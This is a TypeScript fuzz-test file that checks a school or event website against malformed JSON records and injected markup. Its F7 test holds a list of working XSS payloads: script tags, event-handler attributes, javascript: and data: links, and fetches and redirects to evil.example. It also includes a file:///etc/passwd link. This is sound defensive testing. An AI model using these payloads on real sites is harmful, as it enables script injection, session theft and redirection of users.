import fc from "fast-check";
import { expect, test } from "vitest";
import { exactly, forEachCase, lines, words } from "./fixture/cases.ts";
import { expectPagesToShow, lists, somePages, untilRenewed } from "./fixture/content-lists.ts";
import { expectSafeMarkup } from "./fixture/expect-markup.ts";
import { expectResponse } from "./fixture/expect-response.ts";
import { type Site, startFixture } from "./fixture/site-fixture.ts";

const FOREIGN_KEYS = words("__proto__ constructor toString length");
const KEYS = words(`_id title name date fromDate description venue time category images attachments
  image url message class sessionYear division stream breakfast lunch dinner`);

const odd = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  fc.constantFrom<unknown>(null, true, -0, 1e308, [], {}, [[]], [null], "", " ", "0000-00-00"),
  fc.constantFrom<unknown>("2026-02-30", "9999-99-99", "2026-11-20T25:61:61Z", "-271821-04-20"),
  fc.constantFrom<unknown>({ toString: 1, valueOf: 1 }, { $$typeof: "react" }),
  fc.string({ unit: "binary", maxLength: 60 }),
);
const toJson = (value: unknown): string => JSON.stringify(value) ?? "null";
/** A record as text, in which `__proto__` is a key like any other. */
const record = fc
  .array(fc.tuple(fc.constantFrom(...KEYS, ...FOREIGN_KEYS), odd), { maxLength: 12 })
  .map((entries) => `{${entries.map((entry) => entry.map(toJson).join(":")).join(",")}}`);
const malformed = fc.oneof({ weight: 6, arbitrary: record }, odd.map(toJson));
const PER_LIST = 4;

test("F5: a record has the wrong shape: it alone is left out", async () => {
  const { host, site } = await startFixture();
  const round = exactly(lists.length, exactly(PER_LIST, malformed));
  const amount = { few: 168, casesEach: lists.length * PER_LIST };
  await forEachCase(round, amount, async (records, index) => {
    const word = `Word${index}x`;
    for (const [at, { path, make }] of lists.entries()) {
      const json = `[${records[at]?.toSpliced(2, 0, toJson(make(word))).join(",")}]`;
      host.answer(path, (_, response) =>
        response.setHeader("content-type", "application/json").end(json),
      );
    }
    await untilRenewed(site, word, 6_000);
    for (const { path } of lists) {
      const passedOn: unknown = JSON.parse((await site.send(path)).text);
      expect(hasOnlyTexts(passedOn), `${path} passes on texts alone`).toBe(true);
    }
    await expectPagesToShow(site, word);
    for (const path of somePages) expectResponse(path, await site.send(path), 200);
    host.received.length = 0;
  });
});

/** Records of texts and lists of texts, under the keys of the contract. */
const hasOnlyTexts = (records: unknown): boolean =>
  Array.isArray(records) &&
  records.every(
    (entry: unknown) =>
      typeof entry === "object" &&
      entry !== null &&
      !Array.isArray(entry) &&
      Object.entries(entry).every(
        ([key, value]) =>
          !FOREIGN_KEYS.includes(key) && [value].flat().every((text) => typeof text === "string"),
      ),
  );

const CODE = ["alert(1)", "fetch('//evil.example')", "document.body.remove()"];
const ATTACKS = lines(`<script>CODE</script>
  <ScRiPt src=//evil.example/x.js></sCrIpT >
  </script><script>CODE</script>
  <!--<script>CODE</script>
  --><img src=x onerror=CODE>
  <img src=x onerror=CODE>
  "><svg onload=CODE>
  '><body onpageshow=CODE>
  <svg><script>CODE</script></svg>
  <svg><a xlink:href='javascript:CODE'><text>a</text></a></svg>
  <math><mtext><table><mglyph><style><img src=x onerror=CODE>
  <noscript><p title='</noscript><img src=x onerror=CODE>'>
  <a href='javascript:CODE'>open</a>
  <a href='jav&#x09;ascript:CODE'>open</a>
  <a href=' \u0001javascript:CODE'>open</a>
  <a href='data:text/html,<script>CODE</script>'>open</a>
  <a href='vbscript:CODE'>open</a>
  <iframe srcdoc='<script>CODE</script>'></iframe>
  <object data='data:text/html,CODE'></object>
  <base href='//evil.example/'>
  <meta http-equiv=refresh content='0;url=//evil.example'>
  <form action='//evil.example'><input name=a>
  <style>*{display:none}</style>
  <p style='position:fixed;inset:0'>
  </p></div></main></body></html>
  </footer></section><table><tr><td>
  <div><div><div><ul><li><blockquote>
  <plaintext>
  <textarea>
  <title>
  <xmp>
  <template><script>CODE</script>
  &lt;script&gt;CODE&lt;/script&gt;
  &#60;script&#62;CODE&#60;/script&#62;
  {{constructor.constructor('CODE')()}}
  \u202eolleh\u2066
  \u0000<\u0000script>
  <p lang='"><script>CODE</script>'>
  <<p>script>CODE<</p>/script>`);
const attack = fc
  .tuple(fc.constantFrom(...ATTACKS), fc.constantFrom(...CODE))
  .map(([text, code]) => text.replace("CODE", code));
const part = fc.oneof(
  { weight: 4, arbitrary: attack },
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.constantFrom(...words("<p> </p> <em> </ul> <h2> < > \" ' & `")),
);
const hostile = fc.array(part, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(""));
const link = fc.oneof(
  hostile,
  fc.constantFrom(
    ...words(`javascript:alert(1) JaVaScRiPt:alert(1) vbscript:msgbox(1) blob:https://evil.example/1
      file://localhost/etc/passwd //evil.example/a /\\evil.example \u0001javascript:alert(1)`),
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"onmouseover=alert(1) a="',
  ),
);
const TEXTS = words("title description venue time name stream breakfast lunch dinner _id");
const LINKS = words("attachments images image");
const OTHER_PAGES = ["/SubGallery", "/search?q=word", "/newsletter"];
const round = fc.record({ texts: exactly(24, hostile), links: exactly(10, link), letter: hostile });

test("F7: texts and links with scripts and open tags: shown as text or left out", async () => {
  const { host, site } = await startFixture();
  await forEachCase(round, { few: 70, casesEach: 35 }, async ({ texts, links, letter }, index) => {
    const word = `Word${index}x`;
    let used = 0;
    const spoil = ([key, value]: [string, unknown]): [string, unknown] => {
      used += 1;
      if (TEXTS.includes(key)) return [key, `${texts[used % texts.length]} ${value}`];
      if (LINKS.includes(key)) return [key, links];
      if (key === "url") return [key, links[used % links.length]];
      if (key === "message") return [key, `<p>Dear ${letter} parents</p><p>${word}</p>`];
      return [key, value];
    };
    for (const { path, make } of lists)
      host.give(path, [
        Object.fromEntries(Object.entries(make(word)).map(spoil)),
        make(`${word}tame`),
      ]);
    await untilRenewed(site, word, 6_000);
    const records = await findRecordPages(site);
    const shown = lists.flatMap(({ page }) => page ?? []);
    for (const path of [...new Set(shown), ...OTHER_PAGES, ...records]) {
      const page = await site.send(path);
      expectResponse(path, page, 200, 404);
      expectSafeMarkup(path, page.text);
    }
    const { text } = await site.send("/principal-message");
    // What stands in an attribute turns nothing.
    expect(text.replace(/<[^>]*>/g, "")).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(text, "the end of the letter").toContain(word);
    host.received.length = 0;
  });
});

/** The pages of single records, as the lists link to them. */
async function findRecordPages(site: Site): Promise<string[]> {
  const pages = await Promise.all(["/Events", "/News"].map((path) => site.send(path)));
  return pages.flatMap(({ text }) => {
    const [, address] = /href="(\/(?:Events|News)\/[^"]+)"/.exec(text) ?? [];
    return address?.replaceAll("&amp;", "&") ?? [];
  });
}
